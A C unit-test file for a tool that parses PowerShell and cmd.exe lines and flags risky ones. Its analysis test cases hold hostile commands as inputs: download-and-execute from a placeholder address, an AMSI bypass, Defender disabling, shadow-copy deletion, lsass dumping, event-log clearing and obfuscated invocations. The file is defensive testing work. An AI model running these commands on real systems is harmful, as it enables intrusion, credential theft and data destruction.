/* test_pwsh.c — lockbox for Windows: the PowerShell tokenizer and parser, the cmd.exe
 * splitter, the decoders, the Windows rule loader's errors, and the analysis of real
 * PowerShell and cmd lines against the shipped rules/windows (risk, categories, findings,
 * nested decoding limits, valid JSON). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "lockbox/analyze_int.h"
#include "lockbox/pwsh.h"
#include "util/err.h"

#define LB_FIXTURE_WINDOWS
#include "lb_fixture.h"

/* ---- tokenizer ---------------------------------------------------------------------- */

static void
test_lex_modes(void **state)
{
	(void)state;
	lb_arena *a = lb_arena_new();
	ps_lexer lx;
	const char *s = "Get-Item -Path:C:\\x 'a''b' # comment\n";
	ps_lex_init(&lx, a, s, strlen(s), 0);
	ps_tok t = ps_lex_next(&lx, PS_MODE_CMD);
	assert_int_equal(t.kind, PT_WORD);
	assert_string_equal(t.text, "Get-Item");
	t = ps_lex_next(&lx, PS_MODE_CMD);
	assert_int_equal(t.kind, PT_PARAM);
	assert_string_equal(t.text, "Path");
	assert_true(t.flags & PS_TF_COLON);
	t = ps_lex_next(&lx, PS_MODE_CMD);
	assert_int_equal(t.kind, PT_WORD);
	assert_string_equal(t.text, "C:\\x");
	t = ps_lex_next(&lx, PS_MODE_CMD);
	assert_int_equal(t.kind, PT_SQ);
	assert_string_equal(t.text, "a'b");
	t = ps_lex_next(&lx, PS_MODE_CMD);
	assert_int_equal(t.kind, PT_NL); /* the comment is skipped, not the newline */
	assert_int_equal(ps_lex_next(&lx, PS_MODE_CMD).kind, PT_EOF);

	/* the same characters in expression mode: operators, not parameters */
	s = "$a -CEQ 1 -f 'x' <# block\n comment #> ..";
	ps_lex_init(&lx, a, s, strlen(s), 0);
	t = ps_lex_next(&lx, PS_MODE_EXPR);
	assert_int_equal(t.kind, PT_VAR);
	assert_string_equal(t.text, "a");
	t = ps_lex_next(&lx, PS_MODE_EXPR);
	assert_int_equal(t.kind, PT_OP);
	assert_string_equal(t.text, "-eq"); /* case-sensitive form folded */
	assert_int_equal(ps_lex_next(&lx, PS_MODE_EXPR).kind, PT_NUM);
	t = ps_lex_next(&lx, PS_MODE_EXPR);
	assert_string_equal(t.text, "-f");
	assert_int_equal(ps_lex_next(&lx, PS_MODE_EXPR).kind, PT_SQ);
	t = ps_lex_next(&lx, PS_MODE_EXPR);
	assert_int_equal(t.kind, PT_OP);
	assert_string_equal(t.text, "..");
	lb_arena_free(a);
}

static void
test_lex_escapes(void **state)
{
	(void)state;
	lb_arena *a = lb_arena_new();
	ps_lexer lx;
	/* backtick-laden names, a typographic dash and quotes, a here-string */
	const char *s = "i`e`x \xe2\x80\x93" "Command \xe2\x80\x98" "q\xe2\x80\x99 @'\nline1\nline2\n'@ ${my var}";
	ps_lex_init(&lx, a, s, strlen(s), 0);
	ps_tok t = ps_lex_next(&lx, PS_MODE_CMD);
	assert_int_equal(t.kind, PT_WORD);
	assert_string_equal(t.text, "iex");
	assert_true(t.flags & PS_TF_ESCAPED);
	t = ps_lex_next(&lx, PS_MODE_CMD);
	assert_int_equal(t.kind, PT_PARAM);
	assert_string_equal(t.text, "Command");
	t = ps_lex_next(&lx, PS_MODE_CMD);
	assert_int_equal(t.kind, PT_SQ);
	assert_string_equal(t.text, "q");
	t = ps_lex_next(&lx, PS_MODE_CMD);
	assert_int_equal(t.kind, PT_SQ);
	assert_true(t.flags & PS_TF_HERE);
	assert_string_equal(t.text, "line1\nline2");
	t = ps_lex_next(&lx, PS_MODE_CMD);
	assert_int_equal(t.kind, PT_VAR);
	assert_string_equal(t.text, "my var");
	/* unterminated string: an error, never a crash */
	s = "'abc";
	ps_lex_init(&lx, a, s, strlen(s), 0);
	assert_int_equal(ps_lex_next(&lx, PS_MODE_CMD).kind, PT_EOF);
	assert_true(lx.err);
	lb_arena_free(a);
}

/* ---- parser ------------------------------------------------------------------------------ */

static size_t
count_kids(const ps_node *n)
{
	size_t k = 0;
	for (const ps_node *x = n->kid; x; x = x->next)
		k++;
	return k;
}

/* Every span lies inside the source and inside its parent's span start. */
static void
check_spans(const ps_node *n, size_t len, int depth)
{
	assert_true(depth < 2000);
	for (; n; n = n->next) {
		assert_true(n->span.start <= n->span.end);
		assert_true(n->span.end <= len);
		check_spans(n->kid, len, depth + 1);
	}
}

static const ps_node *
first_stmt(const ps_node *root)
{
	const ps_node *n = root;
	while (n && n->kind == PS_STMTS)
		n = n->kid;
	return n;
}

static void
test_parse_shapes(void **state)
{
	(void)state;
	lb_arena *a = lb_arena_new();
	ps_node *root;
	ps_parse_error e;
	const char *s = "Get-Process | Where-Object { $_.CPU -gt 10 } | Stop-Process -WhatIf";
	assert_int_equal(ps_parse(a, s, strlen(s), 0, &root, &e), 0);
	const ps_node *p = first_stmt(root);
	assert_int_equal(p->kind, PS_PIPE);
	assert_int_equal(count_kids(p), 3);
	assert_int_equal(p->kid->kind, PS_CMD);
	assert_int_equal(p->kid->next->kid->next->kind, PS_BLOCK);
	check_spans(root, strlen(s), 0);

	s = "$x = '{1}{0}' -f 'ex','i'; & $x @args; . .\\lib.ps1";
	assert_int_equal(ps_parse(a, s, strlen(s), 0, &root, &e), 0);
	p = first_stmt(root);
	assert_int_equal(p->kind, PS_ASSIGN);
	const ps_node *rhs = p->kid->next;
	while (rhs && rhs->kind == PS_PIPE)
		rhs = rhs->kid;
	assert_int_equal(rhs->kind, PS_BINOP);
	assert_string_equal(rhs->text, "-f");
	assert_int_equal(rhs->kid->next->kind, PS_ARRAY); /* comma binds tighter than -f */
	const ps_node *call = p->next->kid;
	assert_int_equal(call->kind, PS_CMD);
	assert_true(call->flags & PS_F_CALL);
	assert_true(call->kid->next->flags & PS_F_SPLAT);
	const ps_node *dot = p->next->next->kid;
	assert_true(dot->flags & PS_F_DOT);

	s = "if ($a) { 'y' }\nelseif ($b) { 'z' }\nelse { \"v $($c.d) w\" }\n"
	    "function F([int]$n) { switch -Regex ($n) { '1' { 1 } default { 2 } } }\n"
	    "@{ Name = 'x'; Value = @(1, 2) } | Out-Null\n"
	    "[Convert]::FromBase64String('AA==').Length\n"
	    "foreach ($i in 1..3) { $i } ; try { throw 'x' } catch [Exception] { } finally { }";
	assert_int_equal(ps_parse(a, s, strlen(s), 0, &root, &e), 0);
	check_spans(root, strlen(s), 0);
	p = first_stmt(root);
	assert_int_equal(p->kind, PS_KEYWORD);
	assert_string_equal(p->text, "if");
	/* the else branch's string holds a subexpression */
	const ps_node *k = p->kid;
	while (k->next)
		k = k->next;
	assert_int_equal(k->kind, PS_BLOCK);
	const ps_node *str = first_stmt(k->kid)->kid;
	assert_int_equal(str->kind, PS_XSTR);
	assert_int_equal(str->kid->next->kind, PS_SUBEXPR);
	lb_arena_free(a);
}

static void
test_parse_limits(void **state)
{
	(void)state;
	lb_arena *a = lb_arena_new();
	ps_node *root;
	ps_parse_error e;
	/* 5000 nested parentheses: a clean depth error, no stack overflow */
	buf b = BUF_INIT;
	for (int i = 0; i < 5000; i++)
		buf_putc(&b, '(');
	buf_putc(&b, '1');
	for (int i = 0; i < 5000; i++)
		buf_putc(&b, ')');
	assert_int_equal(ps_parse(a, (const char *)b.data, b.len, 0, &root, &e), ESC_EPARSE);
	assert_true(e.depth_exceeded);
	/* a syntax error on one line does not hide the next */
	const char *s = "Get-Date )\nStop-Service Spooler";
	assert_int_equal(ps_parse(a, s, strlen(s), 0, &root, &e), ESC_EPARSE);
	assert_non_null(e.msg);
	int found = 0;
	for (const ps_node *st = root->kid; st; st = st->next) {
		const ps_node *x = first_stmt(st);
		if (x && x->kind == PS_PIPE && x->kid && x->kid->kind == PS_CMD &&
		    !strcmp(x->kid->kid->text, "Stop-Service"))
			found = 1;
	}
	assert_true(found);
	buf_free(&b);
	lb_arena_free(a);
}

/* Real administrator scripts parse without errors: attributes, classes, here-strings,
 * splatting, --%, postfix ++, continuation lines, switch, do/while. */
static void
test_parse_scripts(void **state)
{
	(void)state;
	static const char *const scripts[] = {
	    "[CmdletBinding()]\n"
	    "param(\n"
	    "    [Parameter(Mandatory = $true)]\n"
	    "    [string[]]$ComputerName,\n"
	    "    [int]$Days = 7\n"
	    ")\n"
	    "# Collect disk usage from servers\n"
	    "$results = foreach ($c in $ComputerName) {\n"
	    "    try {\n"
	    "        $disks = Get-CimInstance -ClassName Win32_LogicalDisk -ComputerName $c -Filter \"DriveType=3\" -ErrorAction Stop\n"
	    "        foreach ($d in $disks) {\n"
	    "            [PSCustomObject]@{\n"
	    "                Computer = $c\n"
	    "                Drive    = $d.DeviceID\n"
	    "                FreeGB   = [math]::Round($d.FreeSpace / 1GB, 2)\n"
	    "            }\n"
	    "        }\n"
	    "    }\n"
	    "    catch {\n"
	    "        Write-Warning \"Failed on ${c}: $($_.Exception.Message)\"\n"
	    "    }\n"
	    "}\n"
	    "$results |\n"
	    "    Where-Object { $_.FreeGB -lt 10 } |\n"
	    "    Sort-Object FreeGB |\n"
	    "    Format-Table -AutoSize\n"
	    "Get-ChildItem -Path C:\\Logs `\n"
	    "    -Filter *.log |\n"
	    "    Where-Object LastWriteTime -lt (Get-Date).AddDays(-$Days) | Remove-Item -WhatIf\n"
	    "$hash = @{}\n"
	    "$hash['a'] = 1\n"
	    "switch -Wildcard ($env:COMPUTERNAME) {\n"
	    "    'WEB*' { Restart-Service W3SVC }\n"
	    "    default { Write-Verbose 'nothing' }\n"
	    "}\n"
	    "$s = \"a,b,c\" -split ','\n"
	    "do { $i++ } while ($i -lt 3)\n"
	    "$ErrorActionPreference = 'Stop'\n"
	    "\n",
	    "<#\n"
	    ".SYNOPSIS\n"
	    "  Example\n"
	    "#>\n"
	    "function Get-Thing {\n"
	    "    [OutputType([string])]\n"
	    "    param([Parameter(ValueFromPipeline)][string]$Name)\n"
	    "    begin { $list = [System.Collections.Generic.List[string]]::new() }\n"
	    "    process { $list.Add($Name) | Out-Null }\n"
	    "    end { return $list.ToArray() }\n"
	    "}\n"
	    "class Box { [string]$Label; Box([string]$l) { $this.Label = $l } [string] Show() { return \"Box: $($this.Label)\" } }\n"
	    "enum Color { Red; Green }\n"
	    "$o = [ordered]@{ A = 1; B = 'two' }\n"
	    "$splat = @{ Name = 'Spooler'; ErrorAction = 'SilentlyContinue' }\n"
	    "Get-Service @splat 2>&1 | Out-Null\n"
	    "$null = & { param($x) $x * 2 } 21\n"
	    "$items = (Get-Process).Where({ $_.CPU -gt 1 }, 'First', 5)\n"
	    "if (($a -eq 1) -and -not ($b -or $c)) { Write-Output 'ok' } elseif ($d) { 'x' }\n"
	    "$msg = \"Path is `\"$env:TEMP`\" and cost is `$5 and it's fine\"\n"
	    "icacls.exe C:\\data --% /grant Users:(R)\n"
	    "Invoke-Command -ComputerName srv01 -ScriptBlock { Get-Item $using:path } *> $null\n"
	    "$x = 1..10 | ForEach-Object -Begin { $s = 0 } -Process { $s += $_ } -End { $s }\n"
	    "[void][System.Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')\n"
	    "Write-Host ('{0:N2} GB' -f ($bytes / 1GB))\n"
	    "$h = @\"\n"
	    "Server: $env:COMPUTERNAME\n"
	    "Time: $(Get-Date)\n"
	    "\"@\n"
	    "${function:Get-Thing} | Out-Null\n"
	    "exit 0\n"
	    "\n",
	};
	for (size_t i = 0; i < sizeof scripts / sizeof *scripts; i++) {
		lb_arena *a = lb_arena_new();
		ps_node *root;
		ps_parse_error e;
		int rc = ps_parse(a, scripts[i], strlen(scripts[i]), 0, &root, &e);
		if (rc)
			print_error("script %zu: %s at %u\n", i, e.msg, e.span.start);
		assert_int_equal(rc, 0);
		check_spans(root, strlen(scripts[i]), 0);
		lb_arena_free(a);
	}
}

/* ---- decoders ------------------------------------------------------------------------------ */

static void
test_decode(void **state)
{
	(void)state;
	lb_arena *a = lb_arena_new();
	size_t n = 0;
	unsigned char *d = ps_b64_decode(a, "aGVsbG8=", 8, &n);
	assert_non_null(d);
	assert_int_equal(n, 5);
	assert_memory_equal(d, "hello", 5);
	assert_null(ps_b64_decode(a, "a$b=", 4, &n));
	/* "Get-Date" in UTF-16LE, as powershell -EncodedCommand takes it */
	char *s = ps_decode_encoded_command(a, "RwBlAHQALQBEAGEAdABlAA==", 24, &n);
	assert_non_null(s);
	assert_string_equal(s, "Get-Date");
	/* plain ASCII base64 is not taken for UTF-16 */
	assert_null(ps_decode_encoded_command(a, "aGVsbG8gd29ybGQh", 16, &n));
	/* a surrogate pair becomes one 4-byte UTF-8 sequence; a lone one U+FFFD */
	const unsigned char pair[] = { 0x3d, 0xd8, 0x00, 0xde, 0x00, 0xd8 };
	s = ps_utf16le_to_utf8(a, pair, sizeof pair, &n);
	assert_int_equal(n, 7);
	assert_memory_equal(s, "\xf0\x9f\x98\x80\xef\xbf\xbd", 7);
	const char *args[] = { "ex", "i" };
	size_t lens[] = { 2, 1 };
	s = ps_format(a, "{1}{0}{{}}", 10, args, lens, 2, &n);
	assert_string_equal(s, "iex{}");
	assert_null(ps_format(a, "{2}", 3, args, lens, 2, &n));
	assert_null(ps_format(a, "{x}", 3, args, lens, 2, &n));
	lb_arena_free(a);
}

static void
test_cmd_split(void **state)
{
	(void)state;
	lb_arena *a = lb_arena_new();
	cmd_cmd cc[16];
	size_t cut;
	const char *s = "a 1 & b && c || w^h^o^a^m^i | \"C:\\Program Files\\x.exe\" /q %TEMP%\\y > out.txt";
	int n = cmd_split(a, s, strlen(s), 0, cc, 16, &cut);
	assert_int_equal(n, 5);
	assert_string_equal(cc[0].op, "&");
	assert_string_equal(cc[1].op, "&&");
	assert_string_equal(cc[2].op, "||");
	assert_string_equal(cc[3].op, "|");
	assert_null(cc[4].op);
	assert_string_equal(cc[3].w[0].text, "whoami");
	assert_string_equal(cc[4].w[0].text, "C:\\Program Files\\x.exe");
	assert_true(cc[4].w[0].quoted);
	assert_int_equal(cc[4].n, 3);
	assert_true(cc[4].w[2].has_var);
	assert_string_equal(cc[4].redir_out, "out.txt");
	/* the limit holds and says how much was cut */
	s = "a&b&c&d";
	n = cmd_split(a, s, strlen(s), 0, cc, 2, &cut);
	assert_int_equal(n, 2);
	assert_int_equal(cut, 2);
	lb_arena_free(a);
}

/* ---- rule loading ------------------------------------------------------------------------- */

static void
expect_load_error(const char *yaml, const char *want)
{
	winkb *w = NULL;
	buf err = BUF_INIT;
	assert_int_equal(winkb_new(&w), 0);
	int rc = winkb_load_string(w, "t.yaml", yaml, strlen(yaml), &err);
	if (rc == 0)
		rc = winkb_finish(w, &err);
	assert_int_not_equal(rc, 0);
	if (strstr(buf_cstr(&err), want) == NULL)
		print_error("got: %s\nwant: %s\n", buf_cstr(&err), want);
	assert_non_null(strstr(buf_cstr(&err), want));
	buf_free(&err);
	winkb_free(w);
}

static void
test_winkb_errors(void **state)
{
	(void)state;
	expect_load_error("version: 1\ncommands:\n  - name: x\n    describe: y\n"
	    "    categories: [bogus]\n", "t.yaml:5:18: unknown category: bogus");
	expect_load_error("version: 1\ncommands:\n  - name: x\n    describe: y\n    colour: red\n",
	    "t.yaml:5:5: unknown key in a command: colour");
	expect_load_error("commands: []\n", "missing version");
	expect_load_error("version: 1\ncommands:\n  - name: x\n    describe: y\n    risk: huge\n",
	    "t.yaml:5:11: unknown risk");
	expect_load_error("version: 1\naliases:\n  zz: Nothing-Here\n", "alias zz names unknown");
	expect_load_error("version: 1\ncommands: [\n", "t.yaml:");
	expect_load_error("version: 1\ncommands:\n  - name: x\n    describe: y\n    when:\n"
	    "      - risk: high\n", "needs args, line or params");
	assert_true(winkb_count(wk) >= 150);
	/* names, aliases and .exe-less tools resolve case-insensitively */
	assert_non_null(winkb_lookup(wk, "INVOKE-EXPRESSION", 17));
	assert_ptr_equal(winkb_lookup(wk, "iex", 3), winkb_lookup(wk, "Invoke-Expression", 17));
	assert_non_null(winkb_lookup(wk, "VSSADMIN", 8));
	assert_non_null(winkb_verb(wk, "Get-Frobnicator", 15));
	assert_null(winkb_lookup(wk, "no-such-thing", 13));
}

/* A site's --rules DIR adds DIR/windows/ *.yaml after the shipped rules: an entry of the
 * same name replaces the shipped one; an error there names its file and line. */
static void
test_extra_rules(void **state)
{
	(void)state;
	char dir[] = "/tmp/test_pwsh.XXXXXX";
	assert_non_null(mkdtemp(dir));
	char sub[64], file[96];
	snprintf(sub, sizeof sub, "%s/windows", dir);
	assert_int_equal(mkdir(sub, 0700), 0);
	snprintf(file, sizeof file, "%s/site.yaml", sub);
	FILE *f = fopen(file, "w");
	assert_non_null(f);
	fputs("version: 1\ncommands:\n  - name: Get-Service\n    describe: site rule\n"
	    "    risk: high\n    categories: [recon]\n", f);
	fclose(f);
	const char *extra[] = { dir, NULL };
	winkb *w = NULL;
	buf err = BUF_INIT;
	assert_int_equal(winkb_load(&w, "rules", extra, &err), 0);
	const wk_spec *sp = winkb_lookup(w, "get-service", 11);
	assert_non_null(sp);
	assert_int_equal(sp->risk, LOCKBOX_RISK_HIGH);
	assert_string_equal(sp->describe, "site rule");
	/* the shipped entry's alias still reaches a shipped entry, the rest is untouched */
	assert_non_null(winkb_lookup(w, "iex", 3));
	winkb_free(w);
	f = fopen(file, "w");
	assert_non_null(f);
	fputs("version: 1\ncommands:\n  - name: X\n    describe: y\n    risk: [1]\n", f);
	fclose(f);
	assert_int_not_equal(winkb_load(&w, "rules", extra, &err), 0);
	assert_non_null(strstr(buf_cstr(&err), "site.yaml:5:11:"));
	buf_free(&err);
	unlink(file);
	rmdir(sub);
	rmdir(dir);
}

/* ---- analysis ----------------------------------------------------------------------------- */

typedef struct acase {
	const char *shell;
	const char *cmd;
	int min, max;          /* risk range */
	const char *cat;       /* category that must be present, or NULL */
	const char *finding;   /* finding id that must be present, or NULL */
} acase;

static json_t *
analyze_json(const char *shell, const char *cmd, size_t len, lockbox_result **out)
{
	lockbox_result *r = NULL;
	assert_int_equal(pwsh_analyze(wk, cmd, len, shell, &r), 0);
	buf j = BUF_INIT;
	assert_int_equal(lockbox_result_json(r, &j), 0);
	json_error_t e;
	json_t *o = json_loadb((const char *)j.data, j.len, JSON_ALLOW_NUL, &e);
	if (o == NULL)
		print_error("invalid JSON (%s): %s\n", e.text, buf_cstr(&j));
	assert_non_null(o);
	/* spans stay inside the record */
	json_t *fs = json_object_get(o, "findings"), *f;
	size_t i;
	json_array_foreach(fs, i, f) {
		json_t *sp = json_object_get(f, "span");
		assert_true(json_integer_value(json_array_get(sp, 1)) <= (json_int_t)len);
	}
	buf_free(&j);
	*out = r;
	return o;
}

static int
has_str(json_t *arr, const char *key, const char *want)
{
	size_t i;
	json_t *v;
	json_array_foreach(arr, i, v) {
		const char *s = key ? json_string_value(json_object_get(v, key)) : json_string_value(v);
		if (s && !strcmp(s, want))
			return 1;
	}
	return 0;
}

static char *
enc16(const char *s)
{
	/* base64 of UTF-16LE (ASCII input) */
	static const char t[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t n = strlen(s) * 2;
	unsigned char *u = calloc(n + 3, 1);
	char *o = calloc(n / 3 * 4 + 8, 1);
	assert_non_null(u);
	assert_non_null(o);
	for (size_t i = 0; s[i]; i++)
		u[2 * i] = (unsigned char)s[i];
	size_t k = 0;
	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)u[i] << 16 | (uint32_t)u[i + 1] << 8 | u[i + 2];
		o[k++] = t[v >> 18 & 63];
		o[k++] = t[v >> 12 & 63];
		o[k++] = i + 1 < n ? t[v >> 6 & 63] : '=';
		o[k++] = i + 2 < n ? t[v & 63] : '=';
	}
	free(u);
	return o;
}

static void
run_cases(const acase *cs, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		lockbox_result *r;
		json_t *o = analyze_json(cs[i].shell, cs[i].cmd, strlen(cs[i].cmd), &r);
		int risk = lockbox_result_risk(r);
		int ok = risk >= cs[i].min && risk <= cs[i].max;
		if (cs[i].cat && !has_str(json_object_get(o, "categories"), NULL, cs[i].cat))
			ok = 0;
		if (cs[i].finding && !has_str(json_object_get(o, "findings"), "id", cs[i].finding))
			ok = 0;
		if (!ok) {
			char *d = json_dumps(o, JSON_COMPACT);
			print_error("case %zu [%s] %s\n  -> %s\n", i, cs[i].shell, cs[i].cmd, d);
			free(d);
		}
		assert_true(ok);
		assert_string_equal(json_string_value(json_object_get(o, "shell")),
		    strcmp(cs[i].shell, "cmd") ? "powershell" : "cmd");
		json_decref(o);
		lockbox_result_free(r);
	}
}

#define NONE LOCKBOX_RISK_NONE
#define LOW LOCKBOX_RISK_LOW
#define MED LOCKBOX_RISK_MEDIUM
#define HIGH LOCKBOX_RISK_HIGH
#define CRIT LOCKBOX_RISK_CRITICAL

static void
test_analyze_cases(void **state)
{
	(void)state;
	static const acase cs[] = {
		{ "powershell", "Get-Service | Where-Object Status -eq Running", NONE, NONE, NULL, NULL },
		{ "powershell", "Get-ADGroupMember -Identity 'Domain Admins'", NONE, NONE, NULL, NULL },
		{ "powershell", "Get-ADUser -Filter {Enabled -eq $false}", NONE, NONE, NULL, NULL },
		{ "powershell", "Restart-Service -Name Spooler", MED, MED, "service-change", NULL },
		{ "powershell", "Remove-Item C:\\Temp\\old -Recurse -Force", LOW, MED, "file-delete", NULL },
		{ "powershell", "Remove-Item C:\\ -Recurse -Force", CRIT, CRIT, "destructive",
		  "recursive-delete" },
		{ "powershell", "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
		  CRIT, CRIT, "network-download", "download-exec" },
		{ "powershell", "iwr http://198.51.100.7/a.ps1 | iex", CRIT, CRIT, "code-exec",
		  "download-exec" },
		{ "powershell", "& ('{1}{0}' -f 'ex','i') 'Get-Date'", HIGH, CRIT, "obfuscation",
		  "obfuscated-command" },
		{ "powershell", "i`e`x 'Get-Date'", HIGH, CRIT, "obfuscation", "obfuscated-command" },
		{ "powershell", "& ([char]105+[char]101+[char]120) 'hostname'", HIGH, CRIT,
		  "obfuscation", "obfuscated-command" },
		{ "powershell", "&($env:ComSpec[4,15,25]-Join'') 'whoami'", HIGH, CRIT, "obfuscation",
		  NULL },
		{ "powershell", "$t='Am'+'siUtils'; [Ref].Assembly.GetType('System.Management.Automation.'+$t)",
		  CRIT, CRIT, "security-disable", "amsi-bypass" },
		{ "powershell", "Set-MpPreference -DisableRealtimeMonitoring $true", CRIT, CRIT,
		  "security-disable", "defender-disable" },
		{ "powershell", "Add-ADGroupMember -Identity 'Domain Admins' -Members eve", CRIT, CRIT,
		  "privilege-escalation", "privileged-group-add" },
		{ "powershell", "Clear-EventLog -LogName Security", CRIT, CRIT, "log-tamper", NULL },
		{ "powershell", "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value C:\\u.exe",
		  HIGH, CRIT, "persistence", "sensitive-location" },
		{ "powershell", "Get-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
		  NONE, NONE, NULL, NULL },
		/* -WhatIf only reports; -WhatIf:$false does not */
		{ "powershell", "Remove-Item C:\\ -Recurse -Force -WhatIf", NONE, NONE, NULL, NULL },
		{ "powershell", "Remove-Item C:\\ -Recurse -Force -WhatIf:$false", CRIT, CRIT,
		  "destructive", NULL },
		/* what the pipeline passes on is named by the previous command */
		{ "powershell", "Get-Service WinDefend | Stop-Service -Force", CRIT, CRIT,
		  "security-disable", "security-service-stop" },
		{ "powershell", "Get-Process lsass | ForEach-Object { & 'C:\\Tools\\procdump.exe' -ma $_.Id x.dmp }",
		  CRIT, CRIT, "credential-access", "lsass-dump" },
		{ "powershell", "Add-ADGroupMember -Identity (Get-ADGroup 'Domain Admins') -Members eve",
		  CRIT, CRIT, "privilege-escalation", NULL },
		{ "powershell", "$ExecutionContext.InvokeCommand.InvokeScript('whoami')", HIGH, CRIT,
		  "obfuscation", "hidden-invoke" },
		{ "powershell", "('ami'+'who') -replace '(ami)(who)','$2$1' | iex", HIGH, CRIT,
		  "obfuscation", "obfuscated-code" },
		{ "powershell", "$v = \"I`E`X\"; & $v 'whoami'", HIGH, CRIT, "obfuscation",
		  "obfuscated-command" },
		{ "cmd", "vssadmin delete shadows /all /quiet", CRIT, CRIT, "destructive", "shadow-delete" },
		{ "cmd", "vssadmin list shadows", NONE, NONE, NULL, NULL },
		{ "cmd", "net localgroup administrators eve /add", CRIT, CRIT, "privilege-escalation",
		  "privileged-group-add" },
		{ "cmd", "procdump -ma lsass.exe l.dmp", CRIT, CRIT, "credential-access", "lsass-dump" },
		{ "cmd", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t.dmp full",
		  CRIT, CRIT, "credential-access", NULL },
		{ "cmd", "wevtutil cl Security", CRIT, CRIT, "log-tamper", "eventlog-clear" },
		{ "cmd", "sc query Spooler", NONE, NONE, NULL, NULL },
		{ "cmd", "cmd /c \"w^h^o^a^m^i & vssadmin delete shadows /all\"", CRIT, CRIT,
		  "destructive", NULL },
		{ "cmd", "C:\\Users\\Public\\a.exe", HIGH, CRIT, "code-exec", "temp-program" },
		{ "cmd", "set a=vssadmin& call %a% delete shadows /all", CRIT, CRIT, "destructive",
		  "obfuscated-command" },
		/* cmd spelled from slices of %COMSPEC% */
		{ "cmd", "%COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c vssadmin delete shadows /all",
		  CRIT, CRIT, "obfuscation", "obfuscated-command" },
		{ "cmd", "echo %PATH% & dir %USERPROFILE%", NONE, NONE, NULL, NULL },
		{ "cmd", "certutil -urlcache -split -f http://198.51.100.7/p.exe p.exe", HIGH, CRIT,
		  "network-download", "certutil-download" },
	};
	run_cases(cs, sizeof cs / sizeof *cs);
}

static void
test_encoded(void **state)
{
	(void)state;
	char *e1 = enc16("Set-MpPreference -DisableRealtimeMonitoring $true");
	char line[4096];
	snprintf(line, sizeof line, "powershell -NoProfile -enc %s", e1);
	acase c1[] = { { "cmd", line, CRIT, CRIT, "security-disable", "encoded-command" },
		{ "powershell", line, CRIT, CRIT, "obfuscation", "defender-disable" } };
	run_cases(c1, 2);
	/* encoding nested deeper than lockbox follows is reported, not followed forever */
	char *cur = strdup("Get-Date");
	for (int i = 0; i < 7; i++) {
		char *e = enc16(cur);
		char *next = malloc(strlen(e) + 32);
		assert_non_null(next);
		sprintf(next, "powershell -enc %s", e);
		free(e);
		free(cur);
		cur = next;
	}
	acase c2[] = { { "powershell", cur, HIGH, CRIT, "opaque", "nesting-too-deep" } };
	run_cases(c2, 1);
	free(cur);
	free(e1);
}

static void
test_hostile_input(void **state)
{
	(void)state;
	/* a long chain of concatenations, deep nesting, and binary junk: bounded, valid JSON */
	buf b = BUF_INIT;
	buf_puts(&b, "iex (");
	for (int i = 0; i < 20000; i++)
		buf_puts(&b, "'a'+");
	buf_puts(&b, "'a')");
	lockbox_result *r;
	json_t *o = analyze_json("powershell", (const char *)b.data, b.len, &r);
	assert_true(lockbox_result_risk(r) >= LOCKBOX_RISK_HIGH);
	json_decref(o);
	lockbox_result_free(r);
	buf_reset(&b);
	for (int i = 0; i < 3000; i++)
		buf_puts(&b, "$(");
	o = analyze_json("powershell", (const char *)b.data, b.len, &r);
	assert_true(lockbox_result_opaque(r));
	json_decref(o);
	lockbox_result_free(r);
	/* a long literal re-concatenated many times: folding stops at its memory bound */
	buf_reset(&b);
	buf_puts(&b, "iex ('");
	for (int i = 0; i < 400000; i++)
		buf_putc(&b, 'A');
	buf_putc(&b, '\'');
	for (int i = 0; i < 3000; i++)
		buf_puts(&b, "+'b'");
	buf_putc(&b, ')');
	o = analyze_json("powershell", (const char *)b.data, b.len, &r);
	assert_true(lb_arena_used(r->a) < (size_t)256 * 1024 * 1024);
	assert_true(lockbox_result_risk(r) >= LOCKBOX_RISK_HIGH);
	json_decref(o);
	lockbox_result_free(r);
	const char junk[] = "\x00\xff\xfe`\"$(@'\n\x1b[2J & ^";
	o = analyze_json("powershell", junk, sizeof junk - 1, &r);
	assert_true(lockbox_result_risk(r) >= LOCKBOX_RISK_MEDIUM);
	json_decref(o);
	lockbox_result_free(r);
	o = analyze_json("cmd", junk, sizeof junk - 1, &r);
	json_decref(o);
	lockbox_result_free(r);
	buf_free(&b);
}

static void
test_dispatch(void **state)
{
	(void)state;
	lockbox *lb = NULL;
	buf err = BUF_INIT;
	assert_int_equal(lockbox_load(&lb, "rules", NULL, &err), 0);
	lockbox_result *r;
	assert_int_equal(lockbox_analyze(lb, "Stop-Service WinDefend", 22, "pwsh", &r), 0);
	assert_int_equal(lockbox_result_risk(r), LOCKBOX_RISK_CRITICAL);
	lockbox_result_free(r);
	assert_int_equal(lockbox_analyze(lb, "wevtutil el", 11, "cmd", &r), 0);
	assert_int_equal(lockbox_result_risk(r), LOCKBOX_RISK_NONE);
	lockbox_result_free(r);
	assert_int_equal(lockbox_analyze(lb, "ls -l", 5, "bash", &r), 0);
	lockbox_result_free(r);
	assert_int_equal(lockbox_analyze(lb, "x", 1, "fish", &r), ESC_EINVAL);
	lockbox_free(lb);
	buf_free(&err);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lex_modes),
		cmocka_unit_test(test_lex_escapes),
		cmocka_unit_test(test_parse_shapes),
		cmocka_unit_test(test_parse_limits),
		cmocka_unit_test(test_parse_scripts),
		cmocka_unit_test(test_decode),
		cmocka_unit_test(test_cmd_split),
		cmocka_unit_test(test_winkb_errors),
		cmocka_unit_test(test_extra_rules),
		cmocka_unit_test(test_analyze_cases),
		cmocka_unit_test(test_encoded),
		cmocka_unit_test(test_hostile_input),
		cmocka_unit_test(test_dispatch),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
